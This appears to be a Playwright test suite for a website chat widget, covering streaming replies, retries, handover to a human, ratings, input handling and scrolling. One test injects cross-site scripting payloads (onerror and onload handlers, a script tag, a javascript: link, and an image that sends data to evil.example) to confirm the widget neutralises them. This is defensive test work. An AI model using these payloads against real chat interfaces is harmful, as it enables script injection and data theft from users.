"""A conversation as a visitor has it: nothing lost, nothing twice, whatever happens to page, tab and network."""

from __future__ import annotations

import re

from playwright.sync_api import expect

from tests.browser.harness.chat import NewWidget, sent

from .harness import FakeServer, Site, Widget
from .harness.waiting import until, until_seen


def test_a_message_shows_at_once_and_its_reply_is_typed(widget: Widget, fake: FakeServer) -> None:
    widget.open().say("slow")
    expect(widget.own).to_have_text(re.compile("slow"))
    expect(widget.page.locator(".live")).to_be_visible()
    expect(widget.page.get_by_role("button", name="Stop")).to_be_visible()
    fake.hurry()
    expect(widget.replies).to_have_count(1)
    expect(widget.replies).to_contain_text("first visit")
    expect(widget.page.get_by_role("button", name="Stop")).to_be_hidden()


def test_dots_show_that_an_answer_is_due_and_a_tool_says_what_it_does(widget: Widget, fake: FakeServer) -> None:
    widget.open().say("think")
    expect(widget.page.locator(".dots")).to_be_visible()
    fake.hurry()
    expect(widget.replies).to_have_count(1)
    widget.say("tool")
    expect(widget.page.locator(".status")).to_contain_text("Looking for free times…")
    fake.hurry()
    expect(widget.replies).to_have_count(2)
    expect(widget.page.locator(".status")).to_have_count(0)


def test_stop_keeps_what_was_said(widget: Widget) -> None:
    widget.open().say("slow")
    expect(widget.page.locator(".live")).to_contain_text("history")
    widget.page.get_by_role("button", name="Stop").click()
    expect(widget.replies).to_contain_text("history")
    expect(widget.replies.locator(".note")).to_have_text("Stopped.")
    expect(widget.box).to_be_focused()


def test_a_failed_turn_is_tried_again_without_writing_it_again(widget: Widget, fake: FakeServer) -> None:
    widget.open().say("fail")
    notice = widget.page.locator(".notice")
    expect(notice).to_contain_text("cannot answer just now")
    notice.get_by_role("button", name="Try again").click()
    expect(widget.replies).to_contain_text("Here I am again")
    expect(notice).to_have_count(0)
    assert len(sent(fake, "message.send")) == len(sent(fake, "turn.retry")) == 1


def test_a_refused_message_says_why_and_can_be_sent_again_or_discarded(widget: Widget, fake: FakeServer) -> None:
    widget.open().say("refuse")
    expect(widget.own).to_contain_text("Please wait a moment before you write again.")
    widget.own.get_by_role("button", name="Try again").click()
    until(lambda: len(sent(fake, "message.send")) == 2)
    expect(widget.own).to_contain_text("Please wait a moment")
    assert len({frame["id"] for frame in sent(fake, "message.send")}) == 1, "the same message keeps its id"
    widget.own.get_by_role("button", name="Discard").click()
    expect(widget.own).to_have_count(0)


def test_a_message_in_which_there_is_nothing_to_read_is_not_sent(widget: Widget, fake: FakeServer) -> None:
    widget.open().ask("hello")
    for text in ("\u200b", " \u2060\ufeff", "\u00ad\n"):
        widget.say(text)
    widget.ask("hello")
    assert [frame["text"] for frame in fake.frames if frame["type"] == "message.send"] == ["hello", "hello"]


def test_a_conversation_that_was_ended_elsewhere_offers_another(widget: Widget, fake: FakeServer) -> None:
    widget.open().ask("hello")
    fake.call(fake.say_closed())
    expect(widget.page.get_by_text("This conversation has ended.")).to_be_visible()
    expect(widget.box).to_be_hidden()
    widget.page.locator(".footer").get_by_role("button", name="New conversation").click()
    expect(widget.page.locator(".chip")).to_have_count(3)
    widget.ask("hello")
    expect(widget.replies).to_have_count(1)


def test_a_person_takes_over(widget: Widget, fake: FakeServer) -> None:
    widget.open()
    widget.page.get_by_role("button", name="More").click()
    widget.page.get_by_role("menuitem", name="Talk to a person").click()
    expect(widget.page.locator(".header")).to_contain_text("You asked for a person.")
    fake.call(fake.say_notified())
    expect(widget.page.locator(".header")).to_contain_text("The team has been notified.")
    fake.call(fake.say_staff("Grace"))
    expect(widget.page.locator(".header")).to_contain_text("You are talking to Grace")
    writing = widget.page.locator(".status", has_text="Grace is writing…")
    until_seen(lambda: fake.call(fake.say({"type": "staff.typing"})), writing)
    fake.call(fake.say_message("staff", "Hello, how can I help?"))
    expect(widget.page.locator(".reply .name")).to_have_text("Grace")
    expect(widget.page.locator(".status")).to_have_count(0)


def test_a_person_is_not_offered_where_asking_leads_to_nobody(new_widget: NewWidget, site: Site, fake: FakeServer) -> None:
    fake.config |= {"human": False}
    widget = new_widget().visit(site.url).open()
    expect(widget.page.get_by_role("button", name="More")).to_have_count(0)
    widget.ask("hello")
    widget.page.get_by_role("button", name="More").click()
    expect(widget.page.get_by_role("menuitem", name="New conversation")).to_be_visible()
    expect(widget.page.get_by_role("menuitem", name="Talk to a person")).to_have_count(0)


def test_an_answer_can_be_rated_and_copied(new_widget: NewWidget, site: Site, fake: FakeServer) -> None:
    widget = new_widget(permissions=["clipboard-read", "clipboard-write"]).visit(site.url).open()
    reply = widget.ask("hello")
    reply.get_by_role("button", name="Good answer").click()
    expect(reply.get_by_role("button", name="Good answer")).to_have_attribute("aria-pressed", "true")
    reply.get_by_role("button", name="Good answer").click()
    reply.get_by_role("button", name="Bad answer").click()
    expect(reply.get_by_role("button", name="Bad answer")).to_have_attribute("aria-pressed", "true")
    reply.get_by_role("button", name="Copy").click()
    copied = "Here I am again 👋 – thank you for your patience."
    widget.page.wait_for_function("(text) => navigator.clipboard.readText().then((copied) => copied === text)", arg=copied)
    widget.ask("hello")  # frames arrive in their order: what has been answered came after the ratings
    assert [frame["value"] for frame in sent(fake, "message.rate")] == [1, 0, -1]


def test_enter_sends_shift_enter_breaks_the_line_and_a_composed_word_is_not_sent(widget: Widget, fake: FakeServer) -> None:
    widget.open()
    widget.box.press_sequentially("one")
    widget.box.press("Shift+Enter")
    widget.box.press_sequentially("two")
    widget.box.dispatch_event("keydown", {"key": "Enter", "isComposing": True, "bubbles": True})
    widget.box.dispatch_event("keydown", {"key": "Enter", "keyCode": 229, "bubbles": True})
    expect(widget.box).to_have_value("one\ntwo")
    widget.box.press("Enter")
    expect(widget.own).to_contain_text("one\ntwo", use_inner_text=True)
    expect(widget.box).to_have_value("")


def test_nothing_empty_and_nothing_too_long_is_sent(new_widget: NewWidget, site: Site, fake: FakeServer) -> None:
    fake.config["max_chars"] = 10
    widget = new_widget().visit(site.url).open()
    widget.say("   ")
    widget.say("👋" * 12)
    expect(widget.page.get_by_text("2 characters too many")).to_be_visible()
    widget.ask("👋" * 10)  # once it has been answered, it has been received
    expect(widget.own).to_have_count(1)
    assert [frame["text"] for frame in sent(fake, "message.send")] == ["👋" * 10]


def scrolled(widget: Widget) -> tuple[int, int]:
    """Pixels above what is seen, and below."""
    top, below = widget.log.evaluate("(log) => [log.scrollTop, log.scrollHeight - log.scrollTop - log.clientHeight]")
    return round(top), round(below)


def test_the_list_follows_the_end_until_one_reads_back(new_widget: NewWidget, site: Site) -> None:
    widget = new_widget(reduced_motion="no-preference").visit(site.url).open()
    widget.ask("long")
    widget.ask("long")
    until(lambda: scrolled(widget)[1] <= 1)
    widget.log.evaluate("(log) => log.scrollTo(0, 100)")
    expect(widget.page.get_by_role("button", name="Latest messages")).to_be_visible()
    assert scrolled(widget)[0] == 100
    widget.page.get_by_role("button", name="Latest messages").click()
    expect(widget.page.get_by_role("button", name="Latest messages")).to_be_hidden()


def test_a_reader_is_not_pulled_away_by_a_reply(widget: Widget, fake: FakeServer) -> None:
    widget.open().ask("long")
    widget.say("slow")
    expect(widget.page.locator(".live")).to_contain_text("history")
    widget.log.evaluate("(log) => log.scrollTo(0, 50)")
    expect(widget.page.get_by_role("button", name="Latest messages")).to_be_visible()
    fake.hurry()
    expect(widget.replies).to_have_count(2)
    assert scrolled(widget)[0] == 50


def test_a_gap_in_the_text_is_filled_from_the_server(widget: Widget, fake: FakeServer) -> None:
    widget.open().say("slow")
    expect(widget.page.locator(".live")).to_contain_text("history")
    turn = fake.only().turn
    assert turn
    fake.call(fake.say({"type": "reply.delta", "turn": turn["id"], "offset": 5_000, "text": "lost before this"}))
    until(lambda: len(sent(fake, "session.open")) == 2)
    expect(widget.page.locator(".live")).to_contain_text("history")
    expect(widget.page.locator(".live")).not_to_contain_text("lost before this")
    fake.hurry()
    expect(widget.replies).to_have_count(1)
    assert len(sent(fake, "session.open")) == 2


def test_a_reply_cannot_run_or_load_anything(widget: Widget, fake: FakeServer) -> None:
    asked: list[str] = []
    widget.page.on("request", lambda request: asked.append(request.url))
    widget.open().ask("hello")
    evil = (
        "<img src=x onerror='window.hit=1'><script>window.hit=1</script> ![x](https://evil.example/?q=secret) "
        "[a](javascript:window.hit=1) <svg onload='window.hit=1'> [b](https://good.example/)"
    )
    for end in range(5, len(evil), 5):
        fake.call(fake.say({"type": "reply.delta", "turn": "evil", "offset": end - 5, "text": evil[end - 5 : end]}))
    fake.call(fake.say_message("assistant", evil))
    expect(widget.replies).to_have_count(2)
    links = widget.replies.last.locator("a")
    expect(links).to_have_count(2)
    expect(links.nth(0)).to_have_attribute("href", "https://evil.example/?q=secret")
    expect(links.nth(1)).to_have_attribute("href", "https://good.example/")
    expect(links.first).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert widget.page.evaluate("window.hit") is None
    assert [url for url in asked if "evil" in url] == []


def test_the_demonstration_says_that_it_is_one(new_widget: NewWidget, site: Site, fake: FakeServer) -> None:
    widget = new_widget().visit(site.url).open()
    expect(widget.page.locator(".header")).to_contain_text("Demonstration model")
    expect(widget.page.get_by_role("button", name=re.compile("mic|voice|speak", re.I))).to_have_count(0)
    fake.config["demo"] = False
    real = new_widget().visit(site.url).open()
    expect(real.page.locator(".header")).not_to_contain_text("Demonstration model", use_inner_text=True)
